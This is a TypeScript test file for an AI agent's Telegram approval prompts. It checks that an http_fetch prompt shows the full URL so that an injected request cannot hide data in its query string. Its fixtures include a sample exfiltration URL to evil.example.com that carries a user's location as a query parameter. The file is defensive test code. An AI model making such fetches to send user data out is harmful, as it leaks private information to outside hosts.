/**
 * Issue 11 point 4: the approval prompt of an http_fetch shows the whole URL — host first, then the path and every
 * query parameter — so an injected URL cannot hide data in its query string. A URL too long for one Telegram message
 * is shortened with a note giving its length, never silently. Real loop, real outbox, fake Bot API parsing the HTML.
 */
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, it } from 'node:test';
import { type Instance, USER, type World, buttonData, createWorld, scriptToolCall } from './harness.ts';

describe('http_fetch approval prompts show the whole URL', () => {
  let world: World;
  let app: Instance;
  before(async () => {
    world = await createWorld();
    app = await world.newInstance();
  });
  after(async () => {
    await world.close();
  });
  beforeEach(() => world.gemini.reset());

  async function promptFor(url: string) {
    scriptToolCall(world.gemini, 'http_fetch', { url }, 'Done.');
    // A formal approval without taint (a scheduled run): the taint rule's prompt is tested in test/approvals/taint.test.ts.
    const outcome = await app.turn(
      world.request({ text: 'read this page', source: 'schedule', untrustedInput: false }),
    );
    assert.equal(outcome.status, 'suspended');
    return world.prompts(USER).at(-1)!;
  }

  it('host first, then the path and each query parameter on its own line, nothing cut at 120 characters', async () => {
    const pad = 'p'.repeat(150);
    const url = `https://evil.example.com/collect/v2?q=weather&pad=${pad}&data=User%20lives%20in%20Lisbon&x=<b>&y="1"#top`;
    const prompt = await promptFor(url);
    const lines = prompt.text.split('\n');
    const at = (needle: string) => lines.indexOf(needle);
    assert.ok(at('🌐 evil.example.com') > 0, `host line in:\n${prompt.text}`);
    assert.ok(at('🌐 evil.example.com') < at('/collect/v2'), 'host before the path');
    assert.ok(at('/collect/v2') < at('?q=weather'), 'the path, then the query');
    assert.ok(lines.includes(`&pad=${pad}`), 'a long parameter is shown whole');
    assert.ok(
      lines.includes('&data=User%20lives%20in%20Lisbon'),
      'the parameter after 150 characters of padding is visible',
    );
    assert.ok(lines.includes('&x=%3Cb%3E'), 'markup in the URL is shown as text (percent-encoded by the URL parser)');
    assert.ok(lines.includes('&y=%221%22'));
    assert.ok(lines.includes('#top'));
    const host = prompt.entities.find(
      (e) => e.type === 'bold' && prompt.text.slice(e.offset, e.offset + e.length) === 'evil.example.com',
    );
    assert.ok(host, 'the host is bold');
    assert.equal(buttonData(prompt).length, 4, 'Approve, Deny, Always allow evil.example.com, Details');
  });

  it('a plain-http URL with a port and a user name says so next to the host', async () => {
    const prompt = await promptFor('http://admin@intranet.example.com:8080/x');
    assert.match(
      prompt.text,
      /🌐 intranet\.example\.com:8080 \(http, not encrypted; contains a user name or password\)/,
    );
  });

  it('an absurdly long URL fills one message and says it was shortened, with its length', async () => {
    const url = `https://evil.example.com/c?${Array.from({ length: 300 }, (_, i) => `k${i}=${'v'.repeat(20)}`).join('&')}`;
    assert.ok(url.length > 7000);
    const before = world.tg.botMessages(USER).length;
    const prompt = await promptFor(url);
    assert.equal(world.tg.botMessages(USER).length, before + 1, 'one message');
    assert.ok(prompt.text.length <= 4096, `length ${prompt.text.length}`);
    assert.ok(prompt.text.length > 3000, 'it uses the room a message has');
    assert.match(
      prompt.text,
      new RegExp(`✂️ Shortened to fit one message: this URL is ${url.length.toLocaleString('en-US')} characters long`),
    );
    assert.match(prompt.text, /\?k0=v{20}\n&k1=/);
    assert.equal(buttonData(prompt).length, 4, 'the buttons are on that message');
    // Details adds the technical lines and still fits one message.
    await app.press(USER, prompt.messageId, buttonData(prompt).find((d) => d.endsWith(':d'))!);
    const detailed = world.tg.botMessages(USER).find((m) => m.messageId === prompt.messageId)!;
    assert.match(detailed.text, /Action: http_fetch/);
    assert.ok(detailed.text.length <= 4096, `length with details ${detailed.text.length}`);
    // Deciding edits the same message; the closed text still fits.
    await app.press(USER, prompt.messageId, buttonData(prompt)[1]!);
    await app.approvals.idle();
    const closed = world.tg.botMessages(USER).find((m) => m.messageId === prompt.messageId)!;
    assert.match(closed.text, /❌ Denied by Ann/);
    assert.match(closed.text, /Shortened to fit one message/);
  });
});
